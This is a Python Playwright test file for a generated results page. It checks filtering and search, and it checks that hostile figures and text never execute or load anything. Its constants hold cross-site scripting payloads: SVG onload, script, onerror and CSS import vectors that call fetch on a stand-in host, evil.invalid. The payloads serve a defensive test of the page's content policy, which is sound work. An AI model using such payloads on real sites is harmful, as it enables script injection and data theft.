"""The page of a paper in a real browser: it filters and searches, and runs nothing of others."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from papers_helpers import fill
from test_pages import hostile

from normless_papers.pages.site import write_pages_of
from normless_papers.published import published
from normless_papers.results.storage import FIGURE, save, stored

if TYPE_CHECKING:
    from playwright.sync_api import Browser

STEAL = "document.title='stolen';fetch('http://evil.invalid/x')"
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="9pt" onload="{STEAL}">
<script>{STEAL}</script>
<image href="http://evil.invalid/a.png" width="9" height="9" onerror="{STEAL}"/>
<style>@import url(http://evil.invalid/a.css);</style>
<rect width="9" height="9" style="fill: url(http://evil.invalid/c.svg#p)"/></svg>"""
SHOWN = "[...document.querySelectorAll('article')].filter(card => card.checkVisibility()).map(card => card.id)"
OPENED = "document.querySelectorAll('details').forEach(details => details.open = true)"


def test_it_filters_searches_and_opens_what_links_lead_to(browser: Browser, tmp_path: Path) -> None:
    fill(tmp_path, [name for name in published() if name.startswith("fixup/")])
    write_pages_of(tmp_path)
    results, page = list(stored(tmp_path)), browser.new_page()
    page.goto((tmp_path / "fixup.html").as_uri())
    everything = {result.id for result in results}
    assert {*page.evaluate(SHOWN)} == everything
    # Kind, verdict and budget are those of one result.
    page.get_by_label("Budget", exact=True).select_option("small")
    page.get_by_label("Verdict", exact=True).select_option("reproduced")
    fits = {result.id for result in results if (result.budget, result.verdict) == ("small", "reproduced")}
    assert 0 < len(fits) < len(everything)
    assert {*page.evaluate(SHOWN)} == fits
    page.get_by_role("button", name="Reset").click()
    page.wait_for_function(f"document.querySelector('[role=status]').textContent.startsWith('{len(everything)} of')")
    page.get_by_label("Search").fill("FIXUP table-2")
    assert "fixup/table-2" in page.evaluate(SHOWN)
    assert {*page.evaluate(SHOWN)} < everything
    page.locator("article[id='fixup/table-2'] summary").first.click()
    page.locator("article[id='fixup/table-2']").get_by_role("link", name="fixup/table-1", exact=True).first.click()
    page.locator("article[id='fixup/table-1'] figure").first.wait_for(state="visible")


@pytest.mark.parametrize("inside", [False, True], ids=["as a result", "in the page itself"])
def test_a_hostile_result_runs_and_loads_nothing(browser: Browser, tmp_path: Path, inside: bool) -> None:
    """A script in a text or a figure does not run; the page's policy alone holds too."""
    (save(hostile(), None, tmp_path) / FIGURE).write_text(SVG)
    _, path = write_pages_of(tmp_path)
    if inside:
        planted = f'<main>{SVG}<script>{STEAL}</script><img src=x onerror="{STEAL}">'
        path.write_text(path.read_text("utf-8").replace("<main>", planted, 1))
    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: request.failure == "csp" and asked.remove(request.url))
    page.goto(path.as_uri())
    page.evaluate(OPENED)
    page.wait_for_load_state("networkidle")
    assert page.title() != "stolen"
    assert {url for url in asked if not url.startswith("data:")} == {path.as_uri()}
    # The page's own script runs.
    assert page.get_by_role("status").inner_text() == "1 of 1 artefacts"
